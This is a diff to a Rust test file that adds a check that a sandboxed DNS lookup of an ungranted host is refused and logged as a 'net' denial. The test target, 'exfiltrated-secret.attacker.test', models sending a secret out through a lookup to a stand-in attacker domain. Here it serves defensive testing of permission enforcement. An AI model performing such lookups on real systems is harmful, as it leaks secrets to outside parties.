@@ -35,6 +35,17 @@ fn a_lookup_of_a_name_not_granted_is_refused_as_a_denial_and_the_run_goes_on() {
 }
 
 #[test]
+fn a_refused_lookup_is_recorded_under_the_activity_with_the_name_it_tried() {
+    let s = Scenario::new();
+    let method = resolve_then_echo("exfiltrated-secret.attacker.test", json!({"net": ["localhost"]}));
+    let o = s.run_method(method, &["--allow-net=localhost"]);
+    let denials = &o.run_of("lookup")["denials"];
+    assert_eq!(denials[0]["capability"], "net", "{denials}");
+    assert_eq!(denials[0]["target"], "exfiltrated-secret.attacker.test", "{denials}");
+    assert!(o.log.contains("was denied net"), "{}", o.log);
+}
+
+#[test]
 fn a_lookup_without_a_net_grant_is_refused_as_a_denial() {
     let s = Scenario::new();
     let o = s.run_method(resolve_then_echo("example.invalid", json!({})), &[]);
